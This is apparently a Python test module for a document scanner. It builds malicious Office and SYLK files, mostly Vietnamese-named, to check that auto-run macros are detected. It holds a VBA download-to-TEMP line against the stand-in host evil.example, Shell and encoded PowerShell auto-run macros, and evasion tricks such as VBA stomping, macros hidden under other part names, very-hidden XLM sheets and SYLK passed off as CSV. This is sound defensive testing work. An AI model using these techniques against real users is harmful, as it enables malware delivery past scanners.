"""Macros: VBA in every wrapping and disguise, and Excel 4 macro sheets."""

from __future__ import annotations

import struct
from collections.abc import Callable

from tests.attacks.attack import Attack
from tests.attacks.ole_builder import (
    EXCEL,
    Tree,
    bof,
    compiled,
    compound,
    packed,
    record,
    sheet_name,
    vba_bin,
    vba_project,
    word,
    workbook,
)
from tests.attacks.ooxml_builder import DOCX, XLSX, docx, xlsx

ACTIVE = frozenset({"active_content"})
DOC, XLS = "application/msword", "application/vnd.ms-excel"
VBA_LINK = ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False)
LETTER = "SỞ GIAO THÔNG VẬN TẢI\nSố: 955/SGTVT-VP\nKính gửi: Ủy ban nhân dân tỉnh.\n"

HARMLESS = 'Sub Chao()\n MsgBox "Xin chao"\nEnd Sub\n'
AUTO = 'Sub AutoOpen()\n MsgBox "Xin chao"\nEnd Sub\n'
SHELL = 'Sub AutoOpen()\n Shell "cmd.exe /c calc.exe", vbHide\nEnd Sub\n'
DOWNLOAD = (
    'Private Declare PtrSafe Function URLDownloadToFileA Lib "urlmon" (ByVal a As LongPtr, ByVal b As String,'
    " ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long\n"
    'Sub Document_Open()\n URLDownloadToFileA 0, "http://evil.example/a.exe",'
    ' Environ("TEMP") & "\\a.exe", 0, 0\nEnd Sub\n'
)
HIDDEN_WORDS = (
    'Sub Document_Open()\n Dim s\n s = Chr(83) & Chr(104) & "ell.App" & StrReverse("noitacil")\n'
    ' CreateObject(s).Open "calc"\nEnd Sub\n'
)
POWERSHELL = 'Sub Workbook_Open()\n CreateObject("WScript.Shell").Run "powershell -enc SQBFAFgA", 0\nEnd Sub\n'
CONTINUED = 'Sub _\nAuto_Open _\n()\n Set x = _\n CreateObject _\n("x")\nEnd Sub\n'
USER_FUNCTION = "Function DocSo(so)\n Dim t\n t = ChrW(7897) & ChrW(7855)\n DocSo = t\nEnd Function\n"


def _doc(code: str, name: str = "NewMacros", **more: object) -> bytes:
    return word(LETTER, {"Macros": vba_project({"ThisDocument": "", name: code}, **more)})  # type: ignore[arg-type]


def _xls(code: str) -> bytes:
    return workbook(sheet_name("Trang1"), more={"_VBA_PROJECT_CUR": vba_project({"ThisWorkbook": code})})


def _stomped() -> bytes:
    return _doc(SHELL, cache=compiled(40), sources={"NewMacros": bytes(300)})


def _stomped_to_attributes() -> bytes:
    only = packed(b'Attribute VB_Name = "NewMacros"\r\n')
    return _doc(SHELL, cache=compiled(12), sources={"NewMacros": only})


def _stomped_to_another() -> bytes:
    other = packed(b'Attribute VB_Name = "NewMacros"\r\nSub A()\r\nEnd Sub\r\n')
    return _doc(SHELL, cache=compiled(60), sources={"NewMacros": other})


def _broken_directory() -> bytes:
    project = vba_project({"NewMacros": SHELL})
    storage = dict(project["VBA"])  # type: ignore[arg-type]
    return word(LETTER, {"Macros": {**project, "VBA": {**storage, "dir": b"\x00" * 64}}})


def _without_first_line() -> bytes:
    return _doc(SHELL, sources={"NewMacros": packed(SHELL.encode())})


def _in_embedded_workbook() -> bytes:
    inner: Tree = {
        "Workbook": bof(5) + record(0x0A, b""),
        "_VBA_PROJECT_CUR": vba_project({"ThisWorkbook": POWERSHELL}),
    }
    return word(LETTER, {"ObjectPool": {"_1234567890": inner}}, {"ObjectPool/_1234567890": EXCEL})


def _docx_with(part: str, content: bytes, link: tuple[str, str, bool] | None) -> bytes:
    return docx(links=[link] if link else [], parts={part: content})


def _macro_sheet(hidden: int, *, starts: bool = True) -> bytes:
    name = record(0x18, struct.pack("<HBBHHHBBBB", 0x20, 0, 1, 7, 0, 1, 0, 0, 0, 0) + b"\0\x01" + bytes(7))
    sheets = sheet_name("Trang1") + sheet_name("Macro1", macro=True, hidden=hidden)
    return workbook(sheets + (name if starts else b""), macro=True)


def _old_macro_sheet() -> bytes:
    name = record(0x85, struct.pack("<IBBB", 0, 2, 1, 6) + b"Macro1")
    stream = bof(5, 0x0500) + name + record(0x0A, b"") + bof(0x40, 0x0500) + record(0x0A, b"")
    return compound({"Book": stream.ljust(4096, b"\0")}, {"": "00020810-0000-0000-C000-000000000046"})


def _locked_macro_sheet() -> bytes:
    """Under the password that Excel tries by itself: names are unreadable, the kinds of sheets are not."""
    return workbook(record(0x2F, bytes(6)) + record(0x85, bytes(20)), macro=True)


XLM_SHEET = (
    b'<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>'
    b"<row><c><f>EXEC(&quot;calc.exe&quot;)</f></c></row></sheetData></xm:macrosheet>"
)
_XLM_LINK = ("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml", False)
_SHEET_STATE = '<sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/>'
_AUTO_NAME = '<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames>'
SYLK = 'ID;P\nO;E\nNN;NAuto_open;ER101C1;F\nC;X1;Y101;K0;EEXEC("cmd.exe /c calc.exe")\nC;X1;Y102;K0;EHALT()\nE\n'
SYLK_CALL = 'ID;PWXL;N;E\nC;Y1;X1;K"So lieu"\nC;X1;Y2;K0;ECALL("Kernel32","WinExec","JCJ","calc",1)\nE\n'


def _attack(name: str, file_name: str, declared: str, make: Callable[[], bytes]) -> Attack:
    return Attack(name, "macros", file_name, declared, make, ACTIVE)


ATTACKS: tuple[Attack, ...] = (
    _attack("doc-macro-that-nothing-starts", "cong van.doc", DOC, lambda: _doc(HARMLESS)),
    _attack("doc-macro-autoopen", "cong van.doc", DOC, lambda: _doc(AUTO)),
    _attack("doc-macro-shell", "cong van.doc", DOC, lambda: _doc(SHELL)),
    _attack("doc-macro-download", "cong van.doc", DOC, lambda: _doc(DOWNLOAD, "ThisDoc")),
    _attack("doc-macro-hidden-words", "cong van.doc", DOC, lambda: _doc(HIDDEN_WORDS)),
    _attack("doc-macro-continued-lines", "cong van.doc", DOC, lambda: _doc(CONTINUED)),
    _attack("doc-macro-long-source", "cong van.doc", DOC, lambda: _doc("' chú thích\n" * 900 + SHELL)),
    _attack("doc-macro-source-removed", "cong van.doc", DOC, _stomped),
    _attack("doc-macro-source-emptied", "cong van.doc", DOC, _stomped_to_attributes),
    _attack("doc-macro-source-replaced", "cong van.doc", DOC, _stomped_to_another),
    _attack("doc-macro-directory-destroyed", "cong van.doc", DOC, _broken_directory),
    _attack("doc-macro-without-first-line", "cong van.doc", DOC, _without_first_line),
    _attack("doc-macro-in-embedded-workbook", "cong van.doc", DOC, _in_embedded_workbook),
    _attack("doc-macro-module-with-accents", "cong van.doc", DOC, lambda: _doc(AUTO, "Mô_đun")),
    _attack("xls-macro-workbook-open", "bang tinh.xls", XLS, lambda: _xls(POWERSHELL)),
    _attack("xls-macro-user-function", "bang tinh.xls", XLS, lambda: _xls(USER_FUNCTION)),
    _attack(
        "docx-with-vba-project",
        "cong van.docx",
        DOCX,
        lambda: _docx_with("word/vbaProject.bin", vba_bin({"M": SHELL}), VBA_LINK),
    ),
    _attack(
        "docx-with-vba-unreferenced",
        "cong van.docx",
        DOCX,
        lambda: _docx_with("word/vbaProject.bin", vba_bin({"M": AUTO}), None),
    ),
    _attack(
        "docx-with-vba-under-another-name",
        "cong van.docx",
        DOCX,
        lambda: _docx_with(
            "word/printerSettings1.bin", vba_bin({"M": SHELL}), (VBA_LINK[0], "printerSettings1.bin", False)
        ),
    ),
    _attack(
        "docm-called-docx",
        "cong van.docx",
        DOCX,
        lambda: docx(
            links=[VBA_LINK],
            parts={"word/vbaProject.bin": vba_bin({"M": AUTO})},
            main_type="application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
    ),
    _attack(
        "docx-embedding-xlsm",
        "cong van.docx",
        DOCX,
        lambda: docx(
            links=[("package", "embeddings/Sheet1.xlsm", False)],
            parts={
                "word/embeddings/Sheet1.xlsm": xlsx(
                    links=[VBA_LINK], parts={"xl/vbaProject.bin": vba_bin({"M": POWERSHELL})}
                )
            },
        ),
    ),
    _attack(
        "docx-with-altchunk-docm",
        "cong van.docx",
        DOCX,
        lambda: docx(
            links=[("aFChunk", "chunk.docx", False)],
            parts={"word/chunk.docx": _docx_with("word/vbaProject.bin", vba_bin({"M": SHELL}), VBA_LINK)},
        ),
    ),
    _attack(
        "xlsx-with-vba-project",
        "bang.xlsx",
        XLSX,
        lambda: xlsx(links=[VBA_LINK], parts={"xl/vbaProject.bin": vba_bin({"M": POWERSHELL})}),
    ),
    _attack("xls-xlm-sheet", "bang tinh.xls", XLS, lambda: _macro_sheet(0)),
    _attack("xls-xlm-sheet-hidden", "bang tinh.xls", XLS, lambda: _macro_sheet(1)),
    _attack("xls-xlm-sheet-very-hidden", "bang tinh.xls", XLS, lambda: _macro_sheet(2)),
    _attack("xls-xlm-sheet-without-start", "bang tinh.xls", XLS, lambda: _macro_sheet(2, starts=False)),
    _attack("xls95-xlm-sheet", "bang tinh.xls", XLS, _old_macro_sheet),
    _attack("xls-xlm-sheet-under-default-password", "bang tinh.xls", XLS, _locked_macro_sheet),
    _attack(
        "xlsx-xlm-sheet",
        "bang.xlsx",
        XLSX,
        lambda: xlsx(
            links=[_XLM_LINK], parts={"xl/macrosheets/sheet1.xml": XLM_SHEET}, names=_AUTO_NAME, sheets=_SHEET_STATE
        ),
    ),
    _attack(
        "xlsx-xlm-sheet-elsewhere",
        "bang.xlsx",
        XLSX,
        lambda: xlsx(
            links=[
                (
                    "http://schemas.microsoft.com/office/2006/relationships/xlIntlMacrosheet",
                    "worksheets/sheet9.xml",
                    False,
                )
            ],
            parts={"xl/worksheets/sheet9.xml": XLM_SHEET},
        ),
    ),
    _attack("csv-sylk-exec", "so lieu.csv", "text/csv", SYLK.encode),
    _attack("csv-sylk-call", "so lieu.csv", "text/csv", SYLK_CALL.encode),
)
